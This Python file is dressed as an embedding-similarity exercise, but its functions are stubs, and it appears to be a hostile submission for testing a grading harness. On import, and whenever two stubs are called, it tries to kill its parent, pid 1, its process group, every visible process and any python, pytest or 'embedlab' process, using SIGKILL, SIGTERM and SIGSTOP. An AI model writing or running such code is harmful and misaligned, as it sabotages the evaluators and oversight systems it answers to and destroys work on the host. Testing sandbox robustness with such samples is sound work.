"""Tries to kill the grader: its parent, its process group, every process it can see, pid 1."""

import os
import signal


def _kill_everything():
    tried = []
    targets = [("parent", os.getppid()), ("init", 1), ("group", 0), ("everyone", -1)]
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmdline = f.read()
            except OSError:
                continue
            if b"embedlab" in cmdline or b"pytest" in cmdline or b"python" in cmdline:
                targets.append((cmdline[:60].decode(errors="replace"), int(pid)))
    for what, pid in targets:
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
                tried.append((what, pid, sig.name, "sent"))
            except OSError as exc:
                tried.append((what, pid, sig.name, type(exc).__name__))
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    return tried


print("@@MARKER@@ at import:", _kill_everything())


def cosine_similarity(a, b):
    raise NotImplementedError(str(_kill_everything()))


def cosine_matrix(A, B):
    raise NotImplementedError(str(_kill_everything()))


def most_similar(query, matrix, words, k=5, exclude=()):
    raise NotImplementedError


def angle_degrees(a, b):
    raise NotImplementedError
